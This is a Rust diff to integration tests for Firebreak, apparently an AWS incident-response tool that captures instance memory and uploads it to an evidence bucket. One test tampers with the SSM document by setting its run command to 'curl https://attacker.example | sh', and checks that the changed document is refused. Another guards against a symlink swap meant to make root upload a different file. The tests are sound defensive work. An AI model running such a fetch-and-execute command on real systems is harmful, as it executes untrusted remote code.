@@ -115,29 +115,57 @@ async fn seen(sdk: &aws_config::SdkConfig, instance_id: &str, tag: &str) -> Seen
     }
 }
 
-/// The memory document of `infra/template.yaml`, as CloudFormation creates it for `sha`.
-fn deployed_document(sha: &str) -> serde_json::Value {
-    fn json(v: &serde_yaml::Value, sha: &str) -> serde_json::Value {
+/// The memory document of a template (`infra/template.yaml` unless `template` is given), as
+/// CloudFormation creates it for `sha` and the evidence bucket at `bucket_url`.
+fn deployed_document(
+    template: Option<&serde_yaml::Value>,
+    sha: &str,
+    bucket_url: &str,
+) -> serde_json::Value {
+    fn json(v: &serde_yaml::Value, sha: &str, url: &str) -> serde_json::Value {
+        let sub = |text: &str| {
+            text.replace(memory::TOOL_SHA256_PLACEHOLDER, sha)
+                .replace(memory::BUCKET_URL_PLACEHOLDER, url)
+        };
         match v {
-            serde_yaml::Value::Tagged(t) if t.tag == "!Sub" => t
-                .value
-                .as_str()
-                .expect("a !Sub string")
-                .replace(memory::TOOL_SHA256_PLACEHOLDER, sha)
-                .into(),
+            serde_yaml::Value::Tagged(t) if t.tag == "!Sub" => match &t.value {
+                serde_yaml::Value::String(text) => {
+                    assert!(!text.contains(memory::BUCKET_URL_PLACEHOLDER));
+                    sub(text).into()
+                }
+                // The two-argument form: only the bucket's URL is given as a variable.
+                serde_yaml::Value::Sequence(a) => {
+                    let vars = a[1].as_mapping().expect("variables");
+                    assert_eq!(vars.len(), 1);
+                    assert!(vars.contains_key("EvidenceBucketUrl"));
+                    sub(a[0].as_str().expect("a !Sub string")).into()
+                }
+                other => panic!("!Sub of {other:?}"),
+            },
             serde_yaml::Value::Mapping(m) => m
                 .iter()
-                .map(|(k, v)| (k.as_str().expect("a key").to_string(), json(v, sha)))
+                .map(|(k, v)| (k.as_str().expect("a key").to_string(), json(v, sha, url)))
                 .collect::<serde_json::Map<_, _>>()
                 .into(),
-            serde_yaml::Value::Sequence(s) => s.iter().map(|v| json(v, sha)).collect(),
+            serde_yaml::Value::Sequence(s) => s.iter().map(|v| json(v, sha, url)).collect(),
             serde_yaml::Value::String(s) => s.clone().into(),
             other => panic!("the document holds {other:?}"),
         }
     }
+    let home = template::load();
     json(
-        &template::load()["Resources"]["MemoryDocument"]["Properties"]["Content"],
+        &template.unwrap_or(&home)["Resources"]["MemoryDocument"]["Properties"]["Content"],
         sha,
+        bucket_url,
+    )
+}
+
+/// The evidence bucket's URL on the emulator, as Firebreak's signed URLs name it.
+fn bucket_url(w: &World) -> String {
+    format!(
+        "{}/{}",
+        w.sdk.endpoint_url().expect("the emulator's endpoint"),
+        w.stack.bucket
     )
 }
 
@@ -218,6 +246,8 @@ fn document_rule(sdk: aws_config::SdkConfig) -> aws_smithy_mocks::Rule {
                     .set_name(got.name().map(String::from))
                     .set_content(got.content().map(String::from))
                     .set_document_version(got.document_version().map(String::from))
+                    .set_document_type(got.document_type().cloned())
+                    .set_status(got.status().cloned())
                     .build(),
             ),
             Err(e)
@@ -420,7 +450,10 @@ async fn instance_incident(
             .name(memory::DOCUMENT_NAME)
             .document_type(aws_sdk_ssm::types::DocumentType::Command)
             .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
-            .content(deployed_document(&config.evidence.memory_tool_sha256).to_string())
+            .content(
+                deployed_document(None, &config.evidence.memory_tool_sha256, &bucket_url(w))
+                    .to_string(),
+            )
             .send()
             .await
             .expect("the document created");
@@ -530,8 +563,8 @@ async fn memory_is_captured_after_termination_protection_and_before_anything_cut
     // Firebreak's document ran twice, with only Firebreak-signed URLs among its parameters.
     let step = |i: usize| scripts[i]["Step"][0].as_str();
     assert_eq!((step(0), step(1)), ("capture", "upload"));
-    assert!(scripts[0]["ToolUrl"][0].contains("X-Amz-Signature="));
-    assert!(scripts[1]["UploadUrl"][0].contains("X-Amz-Signature="));
+    assert!(scripts[0]["ToolQuery"][0].contains("X-Amz-Signature="));
+    assert!(scripts[1]["UploadQuery"][0].contains("X-Amz-Signature="));
     assert_eq!(scripts[1]["Image"][0], image.path);
     let _ = config;
 }
@@ -540,10 +573,12 @@ async fn memory_is_captured_after_termination_protection_and_before_anything_cut
 #[test]
 fn the_templates_deploy_firebreaks_document() {
     let sha = "ab".repeat(32);
-    assert_eq!(deployed_document(&sha), memory::document(&sha).unwrap());
+    let url = "https://s3.eu-west-1.amazonaws.com/fb-evidencebucket-1a2b3c";
+    let firebreaks = memory::document(&sha, url).unwrap();
+    assert_eq!(deployed_document(None, &sha, url), firebreaks);
     assert_eq!(
-        template::forwarder()["Resources"]["MemoryDocument"],
-        template::load()["Resources"]["MemoryDocument"],
+        deployed_document(Some(&template::forwarder()), &sha, url),
+        firebreaks,
         "run python3 infra/gen_patterns.py"
     );
 }
@@ -555,7 +590,7 @@ async fn a_changed_or_missing_document_is_never_run_and_says_so() {
     let w = World::new().await;
     let (server, config, incident, text) = instance_incident(&w, "doc", Some(TOOL)).await;
     let ssm = aws_sdk_ssm::Client::new(&w.sdk);
-    let mut changed = deployed_document(&config.evidence.memory_tool_sha256);
+    let mut changed = deployed_document(None, &config.evidence.memory_tool_sha256, &bucket_url(&w));
     changed["mainSteps"][0]["inputs"]["runCommand"][0] =
         "curl https://attacker.example | sh".into();
     let updated = ssm
@@ -829,4 +864,70 @@ async fn the_memory_step_waits_for_an_invocation_not_yet_readable_then_in_progre
         "not yet readable, then in progress twice"
     );
     assert_eq!(agent.lock().unwrap().scripts.len(), 2);
+}
+
+/// The upload step sends only the image the capture wrote: a link in its place (a local user's
+/// way to have root upload another file), another size, or an empty signed header is refused
+/// before any PUT.
+#[test]
+fn the_upload_step_refuses_anything_but_the_captured_image() {
+    use std::os::unix::fs::PermissionsExt;
+    let document = memory::document(&"ab".repeat(32), "http://127.0.0.1:9/bucket").unwrap();
+    let dir = format!(
+        "/var/tmp/firebreak.t{:09}",
+        std::process::id() % 1_000_000_000
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir(&dir).unwrap();
+    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
+    let image = format!("{dir}/memory.lime");
+    let secret = format!("{dir}/secret");
+    std::fs::write(&secret, "s").unwrap();
+    let run = |checksum: &str| {
+        let given: HashMap<String, Vec<String>> = [
+            ("Step", "upload"),
+            ("Seconds", "30"),
+            ("Image", image.as_str()),
+            (
+                "UploadKey",
+                "FB-0123456789abcdef/memory/0123456789abcdef.lime",
+            ),
+            ("UploadQuery", "X-Amz-Signature=1"),
+            ("Size", "1"),
+            ("Checksum", checksum),
+            ("Tagging", "a=b"),
+            ("LockMode", "COMPLIANCE"),
+            ("RetainUntil", "2027-01-01T00:00:00Z"),
+        ]
+        .into_iter()
+        .map(|(k, v)| (k.to_string(), vec![v.to_string()]))
+        .collect();
+        let script = render(&document, &given).expect("the parameters fit the patterns");
+        let out = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(script)
+            .output()
+            .unwrap();
+        (
+            out.status.code(),
+            String::from_utf8_lossy(&out.stderr).to_string(),
+        )
+    };
+    let checksum = format!("{}=", "A".repeat(43));
+
+    std::os::unix::fs::symlink(&secret, &image).unwrap();
+    let (code, err) = run(&checksum);
+    assert_eq!(code, Some(5), "{err}");
+    assert!(err.contains("not the one the capture wrote"), "{err}");
+
+    std::fs::remove_file(&image).unwrap();
+    std::fs::write(&image, "two").unwrap();
+    let (code, err) = run(&checksum);
+    assert_eq!(code, Some(5), "another size: {err}");
+
+    std::fs::write(&image, "1").unwrap();
+    let (code, err) = run("");
+    assert_eq!(code, Some(2), "an empty checksum: {err}");
+    assert!(std::path::Path::new(&image).exists(), "nothing was removed");
+    std::fs::remove_dir_all(&dir).unwrap();
 }
